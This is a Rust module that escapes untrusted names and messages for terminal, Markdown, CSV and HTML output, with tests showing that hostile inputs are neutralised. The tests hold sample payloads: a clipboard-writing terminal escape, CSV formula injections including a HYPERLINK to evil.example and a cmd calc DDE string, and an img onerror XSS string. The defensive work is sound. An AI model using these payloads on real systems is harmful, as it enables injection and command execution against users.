//! What each output format does with a string that came from a case file or a file
//! name, in one place per format: called by the renderers only, never at call sites.
//!
//! Case files are written by many hands and copied from e-mails and other systems.
//! A name may hold a terminal escape (`ESC ] 52` writes the clipboard), a line break
//! that forges a line of `--format concise`, a spreadsheet formula, Markdown that
//! becomes a link or HTML, or a right-to-left override that reverses what a reader
//! sees. Each sink turns such text into something its reader shows as text.

use std::borrow::Cow;

/// Where text is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Sink {
    /// A terminal, a log or a plain-text mail: one line stays one line.
    Terminal,
    /// CommonMark / GitHub-flavoured Markdown text (also inside table cells).
    Markdown,
    /// A CSV cell, opened by a spreadsheet (the csv writer quotes it).
    Csv,
    /// HTML or SVG text, or an attribute value between double quotes.
    Html,
}

/// `text` as `sink` must write it.
pub fn escape(sink: Sink, text: &str) -> Cow<'_, str> {
    match sink {
        Sink::Terminal => terminal(text),
        Sink::Markdown => markdown(text),
        Sink::Csv => csv_cell(text),
        Sink::Html => html(text),
    }
}

/// A cell a spreadsheet would run as a formula (`=HYPERLINK(…)`, `@SUM(…)`, `+cmd|…`,
/// `-2+3`) starts with a `'`, which spreadsheets show as text (OWASP, CSV injection;
/// CWE-1236). A number stays a number: `-24` is not a formula.
fn csv_cell(text: &str) -> Cow<'_, str> {
    let starts_formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if starts_formula && !is_plain_number(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// `-24`, `3.5`: an optional minus, digits, and at most one decimal point.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix('-').unwrap_or(text);
    !digits.is_empty()
        && digits.chars().all(|c| c.is_ascii_digit() || c == '.')
        && digits.chars().filter(|&c| c == '.').count() <= 1
        && digits.chars().any(|c| c.is_ascii_digit())
}

/// A whole text made for a terminal, its own line breaks kept: every other unsafe
/// character in it is shown as an escape. For renderers that write a report line by
/// line with its data inside (the timeline), as a last pass over what they wrote.
pub fn terminal_lines(text: &str) -> Cow<'_, str> {
    if !text.chars().any(|c| c != '\n' && is_unsafe_char(c)) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if c != '\n' && is_unsafe_char(c) {
            visible(c, &mut out);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// A line of a case file for a terminal, with the span `start..end` (in characters)
/// that a marker underlines moved to where it is in the escaped line: `\e` takes two
/// columns where ESC took one.
pub fn terminal_line_and_span(line: &str, start: usize, end: usize) -> (String, usize, usize) {
    let mut out = String::with_capacity(line.len());
    let (mut new_start, mut new_end) = (None, None);
    let mut count = 0;
    for (i, c) in line.chars().enumerate() {
        if i == start {
            new_start = Some(count);
        }
        if i == end {
            new_end = Some(count);
        }
        let before = out.len();
        if is_unsafe_char(c) {
            visible(c, &mut out);
        } else {
            out.push(c);
        }
        count += out[before..].chars().count();
    }
    let new_start = new_start.unwrap_or(count);
    let new_end = new_end.unwrap_or(count).max(new_start);
    (out, new_start, new_end)
}

/// Text of a message in Markdown, where cplan quotes a key or a value in backticks:
/// what is between two backticks is a code span (nothing is markup there; a line break
/// in it becomes a space), everything else is escaped as text. A backtick without its
/// pair is escaped, so no data can open or close a code span it should not.
pub fn markdown_message(text: &str) -> String {
    let parts: Vec<&str> = text.split('`').collect();
    let paired = parts.len() % 2 == 1;
    let mut out = String::with_capacity(text.len() + 8);
    for (i, part) in parts.iter().enumerate() {
        let last = i + 1 == parts.len();
        if i % 2 == 1 && (paired || !last) {
            out.push('`');
            out.push_str(&escape(Sink::Terminal, part));
            out.push('`');
        } else {
            if i % 2 == 1 {
                out.push_str("\\`");
            }
            out.push_str(&escape(Sink::Markdown, part));
        }
    }
    out
}

/// Characters a terminal would act on rather than show: C0 and C1 controls (escape
/// sequences, bell, backspace, line breaks), DEL, and the Unicode overrides and
/// separators that reorder or break what is shown.
pub fn is_unsafe_char(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}')
        || matches!(c, '\u{2028}' | '\u{2029}')
}

/// Whether `text` has a byte that starts an unsafe character (see `is_unsafe_char`):
/// a C0 control or DEL, or the first byte of U+0080–U+00BF (the C1 controls),
/// U+0600–U+063F (U+061C) or U+2000–U+2FFF (the direction marks and line separators).
/// Text without one needs no look at its characters: this runs over every message and
/// path a check writes, tens of thousands of them, and reads bytes without decoding.
fn may_hold_unsafe_chars(text: &str) -> bool {
    text.bytes().fold(false, |found, b| {
        found | (b < b' ' || matches!(b, 0x7F | 0xC2 | 0xD8 | 0xE2))
    })
}

/// A visible stand-in for an unsafe character: `\e`, `\n`, `\r`, `\t`, else `\u{…}`.
fn visible(c: char, out: &mut String) {
    match c {
        '\u{1b}' => out.push_str("\\e"),
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        other => out.push_str(&format!("\\u{{{:X}}}", u32::from(other))),
    }
}

fn terminal(text: &str) -> Cow<'_, str> {
    if !may_hold_unsafe_chars(text) || !text.chars().any(is_unsafe_char) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if is_unsafe_char(c) {
            visible(c, &mut out);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Markdown punctuation that could start a link, an image, HTML, code, bold text, a
/// heading or a table cell, each written with a backslash (CommonMark lets any ASCII
/// punctuation be escaped so), so that data is always shown as the text it is. `_`
/// inside a word (`court_report_days`) is left alone: it makes no emphasis there, and
/// escaping it would clutter every mail read as plain text.
fn is_markdown_active(c: char) -> bool {
    matches!(c, '\\' | '|' | '<' | '>' | '[' | ']' | '`' | '*' | '#')
}

fn markdown(text: &str) -> Cow<'_, str> {
    if !text.chars().any(|c| is_unsafe_char(c) || is_markdown_active(c)) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            // A line break would end a table row or a paragraph: data stays on its line.
            '\n' | '\r' | '\u{2028}' | '\u{2029}' => out.push(' '),
            c if is_unsafe_char(c) => visible(c, &mut out),
            c if is_markdown_active(c) => {
                out.push('\\');
                out.push(c);
            }
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// `& < > " '` as character references, so that data is text wherever it is written
/// in HTML or SVG (between tags or inside a quoted attribute); a line break becomes a
/// space (it is one there anyway); every other control character and bidirectional
/// override is shown as an escape, as on a terminal. The result is also well-formed
/// XML text: XML forbids most control characters even as references.
fn html(text: &str) -> Cow<'_, str> {
    let active = |c: char| matches!(c, '&' | '<' | '>' | '"' | '\'');
    if !text.chars().any(|c| active(c) || is_unsafe_char(c)) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            '\n' | '\r' | '\u{2028}' | '\u{2029}' => out.push(' '),
            c if is_unsafe_char(c) => visible(c, &mut out),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_terminal_sees_no_control_character() {
        let hostile = "mo\u{1b}]52;c;aGVsbG8=\u{7}ther\nnext\u{202E}line\u{8}";
        let shown = escape(Sink::Terminal, hostile);
        assert!(!shown.chars().any(is_unsafe_char), "{shown}");
        assert_eq!(shown, "mo\\e]52;c;aGVsbG8=\\u{7}ther\\nnext\\u{202E}line\\u{8}");
        assert!(matches!(escape(Sink::Terminal, "Lucía Ortiz"), Cow::Borrowed(_)));
    }

    #[test]
    fn every_unsafe_character_is_seen_in_the_bytes() {
        let missed: Vec<char> = (char::MIN..=char::MAX)
            .filter(|&c| is_unsafe_char(c) && !may_hold_unsafe_chars(c.encode_utf8(&mut [0; 4])))
            .collect();
        assert_eq!(missed, []);
        assert!(!may_hold_unsafe_chars(
            "CP204 `visits` of Lucía Ortiz, 2026-11-24 ~"
        ));
        // A dash shares its first byte with the direction marks: looked at, and kept.
        assert!(may_hold_unsafe_chars("a — b"));
        assert!(matches!(escape(Sink::Terminal, "a — b"), Cow::Borrowed(_)));
    }

    #[test]
    fn a_marker_stays_under_its_value_when_the_line_is_escaped() {
        let (line, start, end) = terminal_line_and_span("with: mo\u{1b}]52\u{7}ther x", 6, 17);
        assert_eq!(line, "with: mo\\e]52\\u{7}ther x");
        assert_eq!(&line[start..end], "mo\\e]52\\u{7}ther");
    }

    #[test]
    fn a_message_keeps_its_code_spans_and_data_cannot_leave_them() {
        assert_eq!(
            markdown_message("`visits[1].with` names `mom`"),
            "`visits[1].with` names `mom`"
        );
        assert_eq!(markdown_message("a <b> `x` [c]"), "a \\<b\\> `x` \\[c\\]");
        assert_eq!(markdown_message("odd ` <b>"), "odd \\` \\<b\\>");
        assert!(!markdown_message("`a\nb`").contains('\n'));
    }

    #[test]
    fn a_csv_cell_is_never_a_formula() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?x\",\"click\")",
            "@SUM(1+1)",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "\t=1",
            "\r=1",
        ] {
            assert!(escape(Sink::Csv, formula).starts_with('\''), "{formula}");
        }
        for kept in ["-24", "3.5", "2026-0201", "R. Alvarez", ""] {
            assert_eq!(escape(Sink::Csv, kept), kept);
        }
    }

    #[test]
    fn html_data_is_text_in_an_element_and_in_an_attribute() {
        let hostile = "<img src=x onerror=alert(1)> & \"quoted\" 'single'\u{1b}[31m\nnext\u{202E}";
        let shown = escape(Sink::Html, hostile);
        assert_eq!(
            shown,
            "&lt;img src=x onerror=alert(1)&gt; &amp; &quot;quoted&quot; &#39;single&#39;\\e[31m next\\u{202E}"
        );
        assert!(!shown.chars().any(is_unsafe_char), "{shown}");
        assert!(matches!(escape(Sink::Html, "Lucía Ortiz"), Cow::Borrowed(_)));
    }

    #[test]
    fn markdown_data_cannot_become_markup() {
        let hostile = "Okafor\n\n<img src=x onerror=alert(1)>\r## Fake [click](https://evil.example) | `x`";
        let shown = escape(Sink::Markdown, hostile);
        assert!(!shown.contains('\n') && !shown.contains('\r'), "{shown}");
        let chars: Vec<char> = shown.chars().collect();
        for (i, c) in chars.iter().enumerate() {
            if matches!(c, '<' | '>' | '[' | ']' | '|' | '`' | '#') {
                assert_eq!(chars.get(i.wrapping_sub(1)), Some(&'\\'), "{c} at {i} in {shown}");
            }
        }
        assert_eq!(escape(Sink::Markdown, "R. Alvarez"), "R. Alvarez");
    }
}
